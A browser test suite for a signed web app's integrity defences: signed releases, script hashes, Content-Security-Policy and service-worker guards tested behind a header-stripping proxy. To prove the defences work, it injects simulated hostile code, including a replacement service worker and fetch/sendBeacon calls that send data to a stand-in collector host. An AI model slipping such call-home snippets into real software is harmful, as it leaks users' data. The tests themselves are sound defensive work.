import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { CHROMIUM_FLAGS, findChromium } from '../../scripts/testing/chromium.ts';
import type { BuiltApps } from '../support/built-apps.ts';
import {
  deskFile,
  deskText,
  drawn,
  entryOf,
  firstFacts,
  guardState,
  lookNow,
  noteOf,
  type ReleaseStory,
  serveBehind,
  tellReleases,
} from '../support/release-story.ts';
import { type StrippingProxy, startStrippingProxy } from '../support/stripping-proxy.ts';

/*
 * The desk in a browser, as it is shipped, behind a proxy that can be told to misbehave: what a page runs is what was
 * signed, whatever the server sends, and a person is told.
 */

/** For what comes when the browser gets to it. */
const patience = { timeout: 60_000 };
const tomorrow = firstFacts.date + 24 * 3600;

let browser: Browser;
let story: ReleaseStory;
let context: BrowserContext;
let proxy: StrippingProxy;
const stops: (() => Promise<void>)[] = [];

async function serve(apps: BuiltApps): Promise<void> {
  stops.push(await serveBehind(proxy, apps));
}

async function openDesk(): Promise<Page> {
  const page = await context.newPage();
  await page.goto(proxy.origin('desk'));
  return page;
}

/** Does something after which the page loads itself again, and waits until it has. */
async function reloadedBy(page: Page, act: () => Promise<void>): Promise<void> {
  await page.evaluate(() => document.body.setAttribute('data-before', ''));
  await act();
  await page.waitForFunction(() => document.body?.hasAttribute('data-before') === false);
  await drawn(page);
}

/** The first release with a mark in its style that a page can be asked for. */
/** The sheet of the page itself; what a screen fetches later has sheets of its own, which stay as they were. */
const pageSheet = /index-[^/]*\.css$/;
const markSecond = (apps: BuiltApps): void => apps.change('desk', pageSheet, (text) => `${text}/* second */`);

beforeAll(async () => {
  story = await tellReleases();
  browser = await chromium.launch({ executablePath: findChromium() ?? '', args: [...CHROMIUM_FLAGS] });
}, 300_000);

afterAll(async () => {
  await browser?.close();
  story?.end();
});

beforeEach(async () => {
  proxy = await startStrippingProxy();
  await serve(story.first);
  context = await browser.newContext({ locale: 'en' });
});

afterEach(async () => {
  await context.close();
  for (const stop of stops.splice(0)) await stop();
  await proxy.end();
});

describe('at the first visit', () => {
  it('the desk is checked before it begins, and there is nothing to warn about', async () => {
    const page = await openDesk();
    await drawn(page);
    expect(await guardState(page)).toMatchObject({
      running: { kind: 'test', version: '1.0.0', key: story.maintainer.publicKey },
      offered: null,
      refused: null,
    });
    expect(await page.locator('[data-release]').count()).toBe(0);
    // The worker that holds the keys began after the guard: its file came through it.
    const before = proxy.seen.length;
    await page.reload();
    await drawn(page);
    expect(proxy.seen.slice(before).filter((line) => /^desk .*\.(js|css)$/.test(line))).toEqual([]);
  });

  it('[fault 68] one byte changed in a script that the page loads keeps that script from running', async () => {
    const entry = entryOf(story.first);
    proxy.instead = (site, path) =>
      site === 'desk' && path === entry
        ? { body: `${deskText(story.first, path)} `, type: 'text/javascript' }
        : null;
    const page = await context.newPage();
    const said: string[] = [];
    page.on('console', (message) => said.push(message.text()));
    await page.goto(proxy.origin('desk'), { waitUntil: 'load' });
    await expect.poll(() => said.join('\n'), patience).toContain('integrity');
    expect(await page.evaluate(() => document.getElementById('root')?.childElementCount)).toBe(0);
  });

  it('[fault 68] one byte changed in a script that no page can state the hash of is told to the person', async () => {
    const worker = deskFile(story.first, /session\.worker/);
    proxy.instead = (site, path) =>
      site === 'desk' && path === worker
        ? { body: `${deskText(story.first, path)} `, type: 'text/javascript' }
        : null;
    const page = await openDesk();
    expect(await noteOf(page, 'unchecked')).toContain(worker);
    expect(await page.evaluate(() => navigator.serviceWorker.controller)).toBeNull();
  });

  it('[fault 68] a release that somebody else signed is not kept, and the person is told', async () => {
    await serve(await story.another({ by: story.stranger }));
    const page = await openDesk();
    expect(await noteOf(page, 'unchecked')).toContain('not signed with a key');
  });

  it('[fault 67] headers that a proxy took away are missed by name', async () => {
    proxy.strip = ['content-security-policy', 'integrity-policy'];
    const page = await openDesk();
    expect(await noteOf(page, 'missing')).toContain('Content-Security-Policy; Integrity-Policy');
    expect(await noteOf(page, 'unchecked')).toContain('Content-Security-Policy');
  });
});

describe('the door', () => {
  it('[fault 67] tells its visitor when a proxy took its protections away, and otherwise nothing', async () => {
    const quiet = await context.newPage();
    const looked = quiet.waitForResponse((answer) => answer.request().method() === 'HEAD');
    await quiet.goto(proxy.origin('door'));
    await looked;
    proxy.strip = ['content-security-policy'];
    const page = await context.newPage();
    await page.goto(proxy.origin('door'));
    await page.locator('[data-lost]').waitFor();
    expect(await quiet.locator('[data-lost]').count()).toBe(0);
  });
});

describe('once a release is kept', () => {
  it('[fault 68] a server that sends other code is not heard, not even for a new page', async () => {
    const page = await openDesk();
    await drawn(page);
    proxy.instead = (site, path) => {
      if (site !== 'desk' || path.startsWith('/v1/') || path === '/release.txt') return null;
      if (path === '/service-worker.js') return null;
      return path.endsWith('.js')
        ? { body: 'document.title = "stolen"', type: 'text/javascript' }
        : { body: '<!doctype html><title>stolen</title>', type: 'text/html' };
    };
    await page.reload();
    await drawn(page);
    const other = await openDesk();
    await drawn(other);
    expect([await page.title(), await other.title()]).not.toContain('stolen');
    const planted = await page.evaluate(async () => (await fetch('/assets/planted.js')).status);
    expect(planted).toBe(404);
  });

  it('[fault 67] the page keeps its protections where a proxy takes them away, and the person is told', async () => {
    const page = await openDesk();
    await drawn(page);
    proxy.strip = ['content-security-policy', 'integrity-policy', 'cross-origin-opener-policy'];
    await page.reload();
    await drawn(page);
    expect(await noteOf(page, 'missing')).toContain('Cross-Origin-Opener-Policy');
    const policy = await page.evaluate(async () =>
      (await fetch('/index.html')).headers.get('content-security-policy'),
    );
    expect(policy).toContain("default-src 'none'");
    const blocked = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', (event) => resolve(event.violatedDirective));
          const image = new Image();
          image.src = 'http://collect.localhost:9/x.png';
        }),
    );
    expect(blocked).toBe('img-src');
  });

  it('a newer release waits for a yes, and then it is there, with another guard too', async () => {
    const page = await openDesk();
    await drawn(page);
    const second = await story.another({
      version: '1.1.0',
      date: tomorrow,
      trusts: [story.maintainer, story.stranger],
      change: markSecond,
    });
    await serve(second);
    await lookNow(page);
    expect(await noteOf(page, 'newer')).toContain('Version 1.1.0');
    await page.reload();
    await drawn(page);
    expect((await guardState(page)).running?.version).toBe('1.0.0');
    await noteOf(page, 'newer');
    await reloadedBy(page, () => page.getByRole('button', { name: 'Use the new version' }).click());
    const sheet = deskFile(second, pageSheet);
    expect(await page.evaluate(async (path) => (await fetch(path)).text(), sheet)).toContain('/* second */');
    await drawn(page);
    expect((await guardState(page)).running?.version).toBe('1.1.0');
    // The guard that came with it begins when the browser finds no page of the one before. Waiting, it is no stranger.
    await lookNow(page);
    await guardState(page);
    expect(await page.locator('[data-release]').count()).toBe(0);
    await page.close();
    const later = await openDesk();
    await drawn(later);
    expect((await guardState(later)).running?.version).toBe('1.1.0');

    // And never back.
    await serve(story.first);
    await lookNow(later);
    expect(await noteOf(later, 'refused')).toContain('older');
    await later.reload();
    await drawn(later);
    expect((await guardState(later)).running?.version).toBe('1.1.0');
  });

  it('[fault 68] a newer release with one byte changed is refused by name, and the older one stays', async () => {
    const page = await openDesk();
    await drawn(page);
    const second = await story.another({ version: '1.1.0', date: tomorrow, change: markSecond });
    await serve(second);
    const sheet = deskFile(second, pageSheet);
    proxy.instead = (site, path) =>
      site === 'desk' && path === sheet ? { body: `${deskText(second, path)} `, type: 'text/css' } : null;
    await lookNow(page);
    expect(await noteOf(page, 'refused')).toContain(sheet);
    proxy.instead = () => null;
    await lookNow(page);
    expect(await noteOf(page, 'newer')).toContain('Version 1.1.0');
    expect(await page.locator('[data-release="refused"]').count()).toBe(0);
  });

  it('[fault 68] another guard with another key does not get in unless a person was told of it', async () => {
    const page = await openDesk();
    await drawn(page);
    const apps = await story.another({ by: story.stranger, trusts: [story.stranger] });
    await serve(apps);
    await page.reload();
    await drawn(page);
    expect(await noteOf(page, 'stranger')).toContain('a key that this browser does not know');
    expect((await guardState(page)).running?.key).toBe(story.maintainer.publicKey);
    await reloadedBy(page, () => page.getByRole('button', { name: 'I was told' }).click());
    expect((await guardState(page)).running?.key).toBe(story.stranger.publicKey);
    expect(await page.locator('[data-release]').count()).toBe(0);
  });

  it('[fault 68] a guard that the server puts in the place of ours is noticed by the page that it takes over', async () => {
    const page = await openDesk();
    await drawn(page);
    proxy.instead = (site, path) =>
      site === 'desk' && path === '/service-worker.js'
        ? {
            body: 'setInterval(() => skipWaiting(), 500); addEventListener("activate", (event) => event.waitUntil(clients.claim()));',
            type: 'text/javascript',
          }
        : null;
    await page.evaluate(async () => {
      await (await navigator.serviceWorker.getRegistration())?.update();
    });
    expect(await noteOf(page, 'replaced')).toContain('nobody here agreed');
  });
});

describe('a dependency that calls home', () => {
  it('[fault 69] is stopped by the page’s policy at the desk, in its worker and at the door, and reported', async () => {
    let reached = 0;
    const elsewhere = createServer((_request, response) => {
      reached += 1;
      response.setHeader('access-control-allow-origin', '*').end();
    });
    await new Promise<void>((resolve) => {
      elsewhere.listen(0, '127.0.0.1', resolve);
    });
    const home = `http://collect.localhost:${(elsewhere.address() as AddressInfo).port}`;
    const call = (who: string): string =>
      `\n;addEventListener('securitypolicyviolation', (event) => console.log('reported ' + event.blockedURI));fetch('${home}/${who}').catch(() => {});navigator.sendBeacon?.('${home}/${who}-beacon','x');`;
    // It came with a release: signed, and with the right hashes everywhere.
    const apps = await story.another({
      change: (copy) => {
        copy.change('desk', /index-[^/]*\.js$/, (text) => text + call('desk'));
        copy.change('desk', /session\.worker[^/]*\.js$/, (text) => text + call('worker'));
        copy.change('door', /index-[^/]*\.js$/, (text) => text + call('door'));
      },
    });
    await serve(apps);
    const said: string[] = [];
    const pages = ['desk', 'door'] as const;
    for (const site of pages) {
      const page = await context.newPage();
      page.on('console', (message) => said.push(message.text()));
      await page.goto(proxy.origin(site));
    }
    for (const who of ['desk', 'worker', 'door', 'desk-beacon', 'door-beacon'])
      await expect.poll(() => `${said.join('\n')}\n`, patience).toContain(`reported ${home}/${who}\n`);
    expect(reached).toBe(0);
    await new Promise((resolve) => elsewhere.close(resolve));
  });
});
